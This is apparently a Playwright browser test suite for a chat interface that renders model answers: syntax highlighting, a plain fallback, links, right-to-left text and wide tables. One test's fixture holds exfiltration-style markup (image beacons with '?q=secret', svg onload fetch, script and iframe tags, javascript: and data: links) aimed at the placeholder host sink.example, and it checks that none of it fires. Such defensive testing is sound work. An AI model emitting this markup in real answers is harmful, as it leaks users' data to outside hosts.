/** What a model writes, drawn in a real browser: code with colours, and nothing that lets words reach another host by themselves. */
import type { Page } from "@playwright/test";
import { expectAccessible, expectNoSidewaysScroll } from "./support/accessible";
import { type Model, modelPort, startModel, useModel } from "./support/model";
import { expect, test } from "./support/organization";

test.describe.configure({ mode: "serial", timeout: 60_000 }); // there is room for one model
test.skip(!modelPort, "E2E_MODEL_PORT is not set");

let model: Model;
test.beforeAll(async () => void (model = await startModel()));
test.afterAll(() => model.close());

const answer = (page: Page) => page.getByRole("article", { name: "Assistant answered" }).last();

async function ask(page: Page): Promise<void> {
  await page.goto("/conversations");
  await page.getByRole("textbox", { name: "Message" }).fill("Write it, please");
  await page.keyboard.press("Enter");
}

const code = 'def total(rows: list[int]) -> int:\n    """All of them."""\n    return sum(rows)  # no model does sums';
const withCode = `Here it is.\n\n\`\`\`python\n${code}\n\`\`\`\n\nAnd one nobody can read:\n\n\`\`\`klingon\nnuqneH\n\`\`\``;

test("finished code gets its colours, readable in both themes; the chunk is not asked for while it is written", async ({ page, api }) => {
  await useModel(api);
  const asked: string[] = [];
  page.on("request", (request) => asked.push(request.url()));
  const colours = () => asked.filter((url) => /\/(highlight|python)-[\w-]+\.js$/.test(url));
  model.says(withCode.slice(0, withCode.indexOf("    return"))); // the fence is never closed, then:
  model.pause = 800;
  await ask(page);
  const block = answer(page).getByLabel("Code in python");
  await expect(block).toContainText("def total");
  expect(colours()).toEqual([]);
  await expect(answer(page).getByRole("button", { name: "Copy answer" })).toBeVisible();

  model.says(withCode);
  model.pause = 0;
  await page.getByRole("textbox", { name: "Message" }).fill("Again");
  await page.keyboard.press("Enter");
  const keyword = answer(page).getByLabel("Code in python").locator("span", { hasText: /^def$/ });
  await expect(keyword).toHaveClass(/text-accent-text/);
  expect(await answer(page).getByLabel("Code in python").textContent()).toContain(code);
  await expect(answer(page).getByLabel("Code in klingon")).toHaveText(/nuqneH/);
  expect(colours().length).toBe(2);
  await expectAccessible(page);
  await page.emulateMedia({ colorScheme: "dark" });
  await expectAccessible(page);
});

test("without its chunk, code is whole and plain, and can be copied", async ({ page, api }) => {
  await useModel(api);
  await page.route(/\/highlight-[\w-]+\.js$/, (route) => route.abort());
  model.says(withCode);
  model.pause = 0;
  const refused = page.waitForEvent("requestfailed", (request) => /\/highlight-/.test(request.url()));
  await ask(page);
  await refused;
  const block = answer(page).getByLabel("Code in python");
  expect((await block.textContent())?.trim()).toBe(code);
  await expect(block.locator("span")).toHaveCount(0);
  await expect(answer(page).getByRole("button", { name: "Copy code" }).first()).toBeVisible();
});

const sink = "http://sink.example";
const hostile = `Done. ![chart](${sink}/md.png?q=secret) ![by name][far]

<img src="${sink}/html.png"> <svg onload="fetch('${sink}/svg')"></svg> <iframe src="${sink}/frame"></iframe>

<style>body { background: url(${sink}/css.png) }</style><p style="background:url(${sink}/inline.png)">words</p>

<link rel="stylesheet" href="${sink}/a.css"><script src="${sink}/a.js"></script><base href="${sink}/">

[press me](javascript:fetch('${sink}/js')) [data](data:text/html,<script>fetch('${sink}/data')</script>) [call](vbscript:x)

[Annual report](${sink}/report?q=secret) <${sink}/auto> [ours](//sink.example/slashes)

\`\`\`html
<img src="${sink}/code.png">
\`\`\`

| a | b |
|---|---|
| ![cell](${sink}/cell.png) | [cell link](${sink}/cell) |

[far]: ${sink}/far.png
`;

test("an answer full of addresses sends nothing anywhere; its links say where they lead and open by a click only", async ({ page, api, browser, baseURL }) => {
  await useModel(api);
  const tried: string[] = []; // a request that the page's own policy had to stop was tried all the same
  await page.exposeFunction("tried", (what: string) => tried.push(what));
  await page.addInitScript(() => document.addEventListener("securitypolicyviolation", (event) => (globalThis as unknown as { tried: (what: string) => void }).tried(event.blockedURI)));
  page.on("request", (request) => request.url().includes("sink.example") && tried.push(request.url()));
  model.says(hostile);
  model.pause = 5;
  await ask(page);
  await expect(answer(page).getByRole("button", { name: "Copy answer" })).toBeVisible();
  const said = answer(page);
  await expect(said).toContainText("[picture: chart]");
  await expect(said.locator("img, svg[onload], iframe, style, link, script, base, [style*=sink]")).toHaveCount(0);
  for (const words of ["press me", "data", "call"]) await expect(said.getByRole("link", { name: words, exact: true })).toHaveCount(0);
  await expect(said).toContainText("Annual report (sink.example)");
  for (const link of await said.locator("a[href*=sink]").all()) {
    await expect(link).toHaveAttribute("rel", "noopener noreferrer nofollow");
    await expect(link).toHaveAttribute("target", "_blank");
    await link.hover();
    await link.focus();
  }
  await page.reload(); // from the history, too
  await expect(said).toContainText("Annual report (sink.example)");
  await page.goto("/conversations"); // and its title in lists
  await expect(page.getByRole("list").first()).toBeVisible();
  expect(tried).toEqual([]);

  await page.goBack();
  await expect(said).toContainText("Annual report");
  const [address, storageState] = [page.url(), await page.context().storageState()];
  await page.close();
  const outside = await browser.newContext({ baseURL, storageState }); // in which leaving is not a fault
  await outside.route(/sink\.example/, (route) => route.fulfill({ contentType: "text/html", body: "<title>there</title>" }));
  const reader = await outside.newPage();
  await reader.goto(address);
  const [opened] = await Promise.all([outside.waitForEvent("page"), answer(reader).getByRole("link", { name: "Annual report" }).click()]);
  await opened.waitForLoadState();
  expect(opened.url()).toBe(`${sink}/report?q=secret`);
  expect(await opened.evaluate(() => [globalThis.opener, document.referrer])).toEqual([null, ""]);
  await outside.close();
});

const mixed = `- [x] written
- [ ] sent

1. البند الأول
2. البند الثاني

> اقتباس

| ${Array.from({ length: 40 }, (_, at) => `Column ${at}`).join(" | ")} |
|${"---|".repeat(40)}
| ${Array.from({ length: 40 }, (_, at) => `${at}.50`).join(" | ")} |

Donaudampfschifffahrtselektrizitätenhauptbetriebswerkbauunterbeamtengesellschaftsvorsitzendenstellvertreterin
`;

test("a list of things to do, another direction, forty columns and a word without end: named, in place, and nothing runs out of a phone", async ({ page, api }) => {
  await useModel(api);
  model.says(mixed);
  model.pause = 0;
  await ask(page);
  const said = answer(page);
  await expect(said.getByRole("button", { name: "Copy answer" })).toBeVisible();
  await expect(said.getByRole("img", { name: "Done:" })).toBeVisible();
  for (const part of [said.locator("ol"), said.locator("blockquote")]) await expect(part).toHaveCSS("direction", "rtl");
  await expect(said.getByRole("cell", { name: "39.50" })).toHaveCSS("text-align", "right");
  await expectAccessible(page);
  await expectNoSidewaysScroll(page);
});
